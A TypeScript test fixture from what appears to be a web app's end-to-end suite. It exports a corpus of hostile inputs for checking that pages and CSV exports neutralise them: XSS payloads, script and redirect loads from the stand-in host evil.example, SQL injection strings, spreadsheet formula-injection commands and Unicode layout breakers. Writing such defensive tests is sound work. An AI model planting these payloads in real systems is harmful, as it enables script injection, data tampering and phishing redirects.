/**
 * Hostile input (issue 15): XSS, injection and layout-breaking strings. The fake API plants them
 * in every field others can read (fake-api/seed/hostile.ts); tests/e2e/hostile.e2e.ts opens every
 * page that shows them. A payload that runs sets `window.__pwned`, opens a dialog or navigates.
 */
const RUN = 'window.__pwned=1';

export const HOSTILE_CORPUS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="x" onerror=alert(1)>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<a href="javascript:${RUN}">点我 click</a>`,
  `<a href="JaVaScRiPt:alert(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">ent</a>`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror="${RUN}"></video>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<div style="background:url(javascript:alert(1))">css</div>`,
  `<div style="width: expression(alert(1))">expr</div>`,
  `<style>*{display:none!important}</style>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red">cover</div>`,
  `"><script>${RUN}</script>`,
  `'-alert(1)-'`,
  `\${alert(1)}{{constructor.constructor('${RUN}')()}}`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `'; DROP TABLE blade_user; --`,
  `1 OR 1=1`,
  `=cmd|' /C calc'!A0`,
  `+SUM(1+1)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `=HYPERLINK("https://evil.example","点击")`,
  `\u202Egnp.exe\u202C 名称 RTL override`,
  `Z\u0351\u0352\u0353\u0354\u0355a\u0356\u0357\u0358\u0359l\u035a\u035b\u035cg\u035d\u035e\u035fo`,
  `😀🦷👩‍⚕️🇨🇳 emoji 牙冠`,
  `${'长'.repeat(120)}`,
  `${'W'.repeat(300)}`,
  `line1\nline2\r\nline3\ttab`,
  `%3Cscript%3E${RUN}%3C%2Fscript%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
];

/** The payloads a CSV export must neutralise (a cell starting with = + - @). */
export const FORMULA_PAYLOADS = HOSTILE_CORPUS.filter((payload) => /^[=+\-@]/.test(payload));
